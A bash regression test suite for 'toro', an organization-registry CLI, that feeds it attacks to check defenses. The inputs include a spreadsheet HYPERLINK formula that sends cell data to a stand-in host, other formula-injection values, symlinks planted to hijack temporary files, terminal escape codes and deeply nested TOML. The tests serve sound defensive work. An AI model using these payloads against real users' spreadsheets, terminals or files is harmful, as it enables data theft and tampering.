#!/usr/bin/env bash
# Mistakes and attacks on what toro keeps and writes: every test makes the mistake or the attack
# and shows that nothing is lost, replaced or leaked. The demo refused over real data; outputs
# refused over the store, its companions, the configuration, the key file, an input, a device or
# a pipe; temporary files unpredictable and removed on signals; file modes under umask 000;
# spreadsheet formulas and terminal escapes defused; numbers bounded; TOML nesting bounded.
source "$(dirname "$0")/lib.sh"

# fingerprint: the bytes of the store and its companions, and of the configuration.
fingerprint() { cat toro.db toro.db-wal toro.toml 2>/dev/null | sha256sum; }

# one_org CODE NAME: a CSV of one organization.
one_org() { printf 'code,name,legal_form\n%s,%s,STOW\n' "$1" "$2"; }

test_init_demo_refused_over_records() {
    sqlite_only "the file's checksum; test_pg_store.sh has init over a store on PostgreSQL" || return 0
    toro init
    expect_rc 0
    one_org ORG-001 "Nasza Fundacja" >mine.csv
    toro register import org mine.csv
    expect_rc 0
    rm toro.toml
    local before
    before=$(sha256sum toro.db)
    toro init --demo
    expect_rc 73
    expect_err_has "toro: error: toro.db: holds 1 organization: the demo goes only into a store without records"
    expect_no_file toro.toml  # nothing written, not even the configuration
    expect_eq "$(sha256sum toro.db)" "$before"
    expect_eq "$(sql toro.db "SELECT name FROM org WHERE code = 'ORG-001'")" "Nasza Fundacja"
    expect_eq "$(sql toro.db 'SELECT count(*) FROM venture')" "0"
    # The same through TORO_DB, as the operations guide suggests exporting it.
    mkdir elsewhere
    TORO_DB=$PWD/toro.db toro --config elsewhere/toro.toml init --demo
    expect_rc 73
    expect_err_has "holds 1 organization"
    expect_no_file elsewhere/toro.toml
    # A store of the demo alone stays a no-op (see test_foundation); a demo store with records
    # of the city's own is refused.
    mkdir demo && cd demo || return
    toro init --demo
    expect_rc 0
    one_org ORG-999 "Dodana" >more.csv
    toro register import org more.csv
    expect_rc 0
    toro init --demo
    expect_rc 73
    expect_err_has "organizations"
    expect_err_has "ventures"
}

test_outputs_never_replace_the_store_config_key_or_input() {
    sqlite_only "a store that is a file an output could overwrite" || return 0
    toro init --demo
    expect_rc 0
    toro db info  # settle the WAL so that the fingerprint is stable
    printf 'key' >toro.key
    chmod 600 toro.key
    ln toro.db hard-link.db
    ln -s toro.db sym-link.db
    mkdir sub
    one_org BAD-1 "" >input.csv  # a row that is rejected
    local before
    before=$(fingerprint)
    local target
    for target in toro.db ./sub/../toro.db "$PWD/toro.db" hard-link.db sym-link.db toro.db-wal toro.db-shm; do
        toro register org list -o "$target"
        expect_rc 73
        expect_err_has "this is the store"
        toro register import org input.csv --on-error skip --rejects "$target"
        expect_rc 73
        toro db backup "$target" --force
        expect_rc 73
    done
    expect_eq "$(fingerprint)" "$before"
    toro register import org input.csv --on-error skip --rejects input.csv
    expect_rc 73
    expect_err_has "input.csv: this is an input of this command"
    toro register import org input.csv -o input.csv
    expect_rc 73
    toro register import org input.csv --on-error skip --rejects toro.toml
    expect_rc 73
    expect_err_has "toro.toml: this is the configuration file"
    toro db backup toro.toml --force
    expect_rc 73
    toro register org list -o toro.key
    expect_rc 73
    expect_err_has "this is the pseudonym key file"
    expect_eq "$(cat toro.key)" "key"
    expect_eq "$(fingerprint)" "$before"
    expect_eq "$(sql toro.db "SELECT count(*) FROM org WHERE code = 'BAD-1'")" "0"
    # The instrument file of survey create is an input too.
    cp "$TORO_SOURCE/examples/demo/survey-komp-2026.toml" instrument.toml
    toro survey create instrument.toml --replace -o instrument.toml
    expect_rc 73
    cmp -s instrument.toml "$TORO_SOURCE/examples/demo/survey-komp-2026.toml" || fail "the instrument file changed"
}

test_devices_and_pipes_are_refused() {
    toro init --demo
    expect_rc 0
    mkfifo pipe.csv
    timeout 10 "$TORO" --lang en register org list -o pipe.csv >/dev/null 2>err.txt
    rc=$? err=$(cat err.txt)
    expect_rc 73
    expect_err_has "pipe.csv: this is a pipe, not a regular file"
    toro register org list -o /dev/null
    expect_rc 73
    expect_err_has "/dev/null: this is a device"
    # Run as root, this replaced the device node with a file.
    if on_sqlite; then
        toro db backup /dev/full --force
        expect_rc 73
        [ -c /dev/full ] || fail "/dev/full is no longer a device"
    fi
    toro register import org "$TORO_SOURCE/examples/demo/orgs.csv" --on-error skip --rejects /dev/null
    expect_rc 73
    mkdir folder.csv
    toro register org list -o folder.csv
    expect_rc 73
    expect_err_has "this is a folder"
    # Standard output stays "-o -".
    toro register org list -o - --format csv
    expect_rc 0
    expect_out_has "ORG-001"
}

test_temporary_files_unpredictable_and_removed() {
    toro init --demo
    expect_rc 0
    # A planted symbolic link under the old predictable names is never followed.
    echo secret >victim.txt
    chmod 600 victim.txt
    local pid
    for pid in $(seq $$ $(($$ + 50))); do ln -sf victim.txt "out.csv.tmp-$pid"; done
    toro register org list -o out.csv --format csv
    expect_rc 0
    expect_eq "$(cat victim.txt)" "secret"
    expect_out_lacks "tmp"
    rm -f out.csv.tmp-*
    # A failed write leaves nothing: a folder the backup cannot be renamed over.
    if on_sqlite; then
        toro db backup full-disk.db
        expect_rc 0
        expect_eq "$(find . -name '*.tmp-*' | wc -l)" "0"
    fi
    # A signal while an import waits for its input: the rejects file's temporary copy is removed
    # and toro dies of the signal.
    local signal
    for signal in INT TERM HUP; do
        rm -f feed.csv
        mkfifo feed.csv
        env --default-signal=INT "$TORO" register import org feed.csv --on-error skip --rejects rejects.csv \
            >/dev/null 2>/dev/null &
        local toro_pid=$!
        exec 7>feed.csv
        # More rows than the reader takes in at once, and the pipe left open: toro waits.
        { echo code,name,legal_form; for i in $(seq 1 20000); do echo "BAD-$i,,STOW"; done; } >&7
        local waited=0
        while [ -z "$(find . -maxdepth 1 -name 'rejects.csv.tmp-*')" ] && [ $waited -lt 50 ]; do
            sleep 0.1
            waited=$((waited + 1))
        done
        [ -n "$(find . -maxdepth 1 -name 'rejects.csv.tmp-*')" ] || fail "$signal: no temporary rejects file seen"
        local name
        name=$(find . -maxdepth 1 -name 'rejects.csv.tmp-*')
        [[ "$name" =~ rejects\.csv\.tmp-[A-Za-z0-9]{12}$ ]] || fail "$signal: predictable temporary name $name"
        [ "$(stat -c %a "$name")" = "600" ] || fail "$signal: temporary file mode $(stat -c %a "$name")"
        kill -s "$signal" "$toro_pid"
        wait "$toro_pid"
        local status=$?
        exec 7>&-
        case $signal in INT) expect_eq "$status" "130" ;; TERM) expect_eq "$status" "143" ;; HUP) expect_eq "$status" "129" ;; esac
        expect_eq "$(find . -maxdepth 1 -name 'rejects.csv*' | wc -l)" "0"
    done
}

test_file_modes_under_umask_000() {
    sqlite_only "the modes of the store's file and its backups" || return 0
    umask 000
    toro init --demo
    expect_rc 0
    expect_eq "$(stat -c %a toro.toml)" "600"
    expect_eq "$(stat -c %a toro.db)" "600"
    toro report missing --as-of 2026-11-11 -o missing.csv
    expect_file missing.csv
    expect_eq "$(stat -c %a missing.csv)" "600"
    one_org BAD-1 "" >input.csv
    toro register import org input.csv --on-error skip --rejects rejects.csv
    expect_rc 3
    expect_eq "$(stat -c %a rejects.csv)" "600"
    toro db backup backup.db
    expect_rc 0
    expect_eq "$(stat -c %a backup.db)" "600"
    # [output] file_mode widens outputs only.
    printf '\n[output]\nfile_mode = "0640"\n' >>toro.toml
    sed -i '0,/^\[output\]$/{/^\[output\]$/d}' toro.toml
    sed -i '/^csv_sep\|^bom\|^lang = \|^file_mode = "0600"/d' toro.toml
    toro config show
    expect_rc 0
    expect_out_has '"0640"'
    toro register org list -o list.csv
    expect_eq "$(stat -c %a list.csv)" "640"
    rm rejects.csv
    toro register import org input.csv --on-error skip --rejects rejects.csv
    expect_eq "$(stat -c %a rejects.csv)" "640"
    toro db backup backup2.db
    expect_eq "$(stat -c %a backup2.db)" "600"
    # Rewriting an existing output keeps its mode.
    chmod 604 list.csv
    toro register org list -o list.csv
    expect_rc 0
    expect_eq "$(stat -c %a list.csv)" "604"
    # An existing empty file made a store keeps no looser mode than 0600.
    mkdir empty && : >empty/toro.db && chmod 666 empty/toro.db
    toro --db empty/toro.db db info
    expect_rc 0
    expect_eq "$(stat -c %a empty/toro.db)" "600"
}

test_file_mode_setting_validated() {
    toro init
    local mode
    for mode in 0777 0400 0644x 755 1666; do
        printf '[output]\nfile_mode = "%s"\n' "$mode" >bad.toml
        toro --config bad.toml config show
        expect_rc 78
        expect_err_has "bad.toml:2:13: output.file_mode:"
    done
}

test_rejects_written_in_the_input_dialect() {
    toro init --demo
    expect_rc 0
    # Excel in Polish: cp1250, ";" and CR LF; one row with a bad NIP.
    printf 'code;name;legal_form;nip\r\nORG-501;Stowarzyszenie Ślązaków;STOW;5261040828\r\nORG-502;Fundacja Żółw;FUND;123\r\n' |
        iconv -f UTF-8 -t CP1250 >excel.csv
    toro register import org excel.csv --encoding cp1250 --on-error skip --rejects excel.rejects.csv
    expect_rc 3
    expect_err_has "(see excel.rejects.csv)"
    expect_err_lacks_tmp() { [[ "$err" != *".tmp-"* ]] || fail "stderr names the temporary file"; }
    expect_err_lacks_tmp
    iconv -f CP1250 -t UTF-8 excel.rejects.csv >/dev/null || fail "the rejects file is not cp1250"
    ! iconv -f UTF-8 -t UTF-8 excel.rejects.csv >/dev/null 2>&1 || fail "the rejects file is UTF-8"
    local text
    text=$(iconv -f CP1250 -t UTF-8 excel.rejects.csv)
    [[ "$text" == "code;name;legal_form;nip;line;error"$'\r\n'"ORG-502;Fundacja Żółw;FUND;123;3;nip"* ]] ||
        fail "rejects file: $text"
    [ "$(head -1 excel.rejects.csv | tail -c 2 | od -An -c | tr -d ' ')" = '\r\n' ] || fail "no CR LF"
    # Corrected in place, it imports as it is: line and error are ignored.
    sed -i 's/;123;/;7771234567;/' excel.rejects.csv
    toro register import org excel.rejects.csv --encoding cp1250
    expect_rc 0
    expect_eq "$(sql toro.db "SELECT name FROM org WHERE code = 'ORG-502'")" "Fundacja Żółw"
    # UTF-8 with a byte order mark and LF: the same back.
    printf '\xEF\xBB\xBFcode,name,legal_form,nip\nORG-503,Fundacja Ąę,FUND,123\n' >bom.csv
    toro register import org bom.csv --on-error skip --rejects bom.rejects.csv
    expect_rc 3
    [ "$(head -c 3 bom.rejects.csv | od -An -tx1 | tr -d ' ')" = "efbbbf" ] || fail "no BOM in the rejects file"
    grep -q $'\r' bom.rejects.csv && fail "CR in the rejects file of an LF input"
    # A rejects file read with skip again: one line and error column, not two.
    toro register import org bom.rejects.csv --on-error skip --rejects again.csv
    expect_rc 3
    expect_eq "$(head -1 again.csv | tr -d '\357\273\277')" "code,name,legal_form,nip,line,error"
}

test_dry_run_with_skip_tells_every_reason() {
    toro init --demo
    expect_rc 0
    printf 'code,name,legal_form,nip\nORG-601,Dobra,FUND,123\nORG-602,Zła,XXXX,\nORG-603,Trzecia,STOW,\n' >two-bad.csv
    toro register import org two-bad.csv --on-error skip --dry-run --rejects dry.rejects.csv
    expect_rc 3
    expect_err_has "two-bad.csv:2: nip '123':"
    expect_err_has "two-bad.csv:3: legal_form 'XXXX':"
    expect_err_has "2 rows rejected (dry run: nothing was written) (see dry.rejects.csv)"
    expect_eq "$(sql toro.db "SELECT count(*) FROM org WHERE code LIKE 'ORG-60_'")" "0"
    expect_eq "$(wc -l <dry.rejects.csv)" "3"
    toro register import org two-bad.csv --on-error skip
    expect_rc 3
    expect_err_has "two-bad.csv:2: nip '123':"
    expect_eq "$(sql toro.db "SELECT count(*) FROM org WHERE code LIKE 'ORG-60_'")" "1"
}

test_formulas_defused_in_csv_and_round_trip() {
    toro init
    {
        echo 'code,name,short_name,legal_form,phone'
        echo 'ORG-701,"=HYPERLINK(""http://x.example/?""&A1;""Kliknij"")",+SUM(A1:A9),STOW,+48 22 111 22 33'
        echo 'ORG-702,@cmd,-minus,FUND,'
        echo "ORG-703,'=already quoted,plain,FUND,"
    } >formulas.csv
    toro register import org formulas.csv
    expect_rc 0
    expect_eq "$(sql toro.db "SELECT name FROM org WHERE code = 'ORG-701'")" '=HYPERLINK("http://x.example/?"&A1;"Kliknij")'
    expect_eq "$(sql toro.db "SELECT phone FROM org WHERE code = 'ORG-701'")" "+48 22 111 22 33"
    toro register export org --format csv -o export.csv
    expect_rc 0
    grep -q "^ORG-701,\"'=HYPERLINK" export.csv || fail "formula not defused: $(grep ORG-701 export.csv)"
    grep -q "'+SUM(A1:A9)" export.csv || fail "+ not defused"
    grep -q "'@cmd" export.csv || fail "@ not defused"
    grep -q "'-minus" export.csv || fail "- not defused"
    toro register export org --format tsv -o export.tsv
    grep -q $'\t'"'+48 22 111 22 33" export.tsv || fail "tsv: + not defused"
    # Export, then import into a new store: the same names.
    local code names=()
    for code in ORG-701 ORG-702 ORG-703; do
        names+=("$(sql toro.db "SELECT name || '|' || coalesce(short_name, '') || '|' || coalesce(phone, '') FROM org WHERE code = '$code'")")
    done
    mkdir copy && cd copy || return
    new_store
    toro init
    toro register import org ../export.csv --ignore-unknown
    expect_rc 0
    local i=0
    for code in ORG-701 ORG-702 ORG-703; do
        expect_eq "$(sql toro.db "SELECT name || '|' || coalesce(short_name, '') || '|' || coalesce(phone, '') FROM org WHERE code = '$code'")" "${names[i]}"
        i=$((i + 1))
    done
}

test_numbers_in_csv_untouched() {
    toro init --demo
    expect_rc 0
    toro register export venture --format csv -o ventures.csv
    expect_rc 0
    grep -q ",'[0-9]" ventures.csv && fail "a number got an apostrophe"
    toro --as-of 2026-11-11 report annual --year 2025 --format csv -o annual.csv
    expect_rc 0
    grep -q "'-[0-9]" annual.csv && fail "a negative number got an apostrophe"
    true
}

test_control_characters_shown_escaped() {
    toro init
    printf 'code,name,legal_form\nORG-801,"Zła \033[31mczerwona\033[0m \007firma <b>&co</b>",STOW\n' >esc.csv
    toro register import org esc.csv
    expect_rc 0
    toro register org list
    expect_rc 0
    [[ "$out" == *$'\033'* || "$out" == *$'\a'* ]] && fail "raw ESC or BEL in the table"
    expect_out_has 'Zła \x1b[31mczerwona\x1b[0m \x07firma'
    toro register org list --format md
    expect_out_has '&lt;b&gt;&amp;co&lt;/b&gt;'
    [[ "$out" == *$'\033'* ]] && fail "raw ESC in Markdown"
    toro register org show $'ORG-\033[2J'
    [[ "$err" == *$'\033'* ]] && fail "raw ESC in an error message"
    expect_err_has 'ORG-\x1b[2J'
    # JSON and CSV keep the data as it is.
    toro register org list --format json
    expect_out_has '\u001b[31m'
}

test_numbers_bounded() {
    seed_ventures
    toro --as-of 2026-01-20 report submit V-1 2025-06 --value i1=nan
    expect_rc 2
    expect_err_has "--value i1=nan: expected a number"
    toro --as-of 2026-01-20 report submit V-1 2025-06 --value i1=inf
    expect_rc 2
    toro --as-of 2026-01-20 report submit V-1 2025-06 --value i1=1e300
    expect_rc 2
    expect_err_has "out of range"
    toro --as-of 2026-01-20 report submit V-1 2025-06 --value i1=5 --spent personnel=92233720368547758.07
    expect_rc 2
    expect_err_has "--spent personnel=92233720368547758.07: out of range"
    expect_eq "$(sql toro.db 'SELECT count(*) FROM report')" "0"
    printf 'venture,period,indicator,value\nV-1,2025-06,i1,nan\nV-1,2025-06,i2,1e13\n' >bad-values.csv
    toro report import bad-values.csv
    expect_rc 65
    expect_err_has "bad-values.csv:2: value 'nan': expected a number"
    expect_err_has "bad-values.csv:3: value '1e13': out of range"
    # Three grants of the largest int64 in grosze no longer wrap around.
    printf 'code,org,program,title,sphere,districts,starts,ends,grant\nV-901,ORG-0,P-1,X,2,Wola,2025-01,2025-12,92233720368547758.07\n' >huge.csv
    toro register import venture huge.csv
    expect_rc 65
    expect_err_has "huge.csv:2: grant"
    expect_err_has "out of range"
    toro --as-of 2026-01-20 report submit V-1 2025-06 --value i1=999999999999
    expect_rc 0
    # Grants written past the bounds behind toro's back: the sum is refused, never wrapped.
    sql toro.db "UPDATE venture SET \"grant\" = 9223372036854775807 WHERE code IN ('V-1', 'V-2', 'V-3')"
    toro --as-of 2026-01-20 report annual --year 2025 --format json
    expect_rc 65
    expect_err_has "a sum of amounts goes beyond"
    expect_out_lacks "e+16"
}

test_toml_nesting_bounded() {
    python3 -c 'print("a" + ".a" * 50000 + " = 1")' >deep.toml
    toro --config deep.toml config show
    expect_rc 78
    expect_err_has "deep.toml:1:"
    expect_err_has "nested more than 64 levels"
    python3 -c 'print("x = " + "[" * 100000)' >deep-array.toml
    toro --config deep-array.toml config show
    expect_rc 78
    # The instrument files of survey create pass the same check.
    toro init
    toro survey create deep.toml
    expect_rc 65
    expect_err_has "nested more than 64 levels"
    # The fuzz regression kept in the corpus is refused the same way.
    toro --config "$TORO_SOURCE/tests/fuzz/corpus/config/regression-dotted-key-50000" config show
    expect_rc 78
}

run_tests
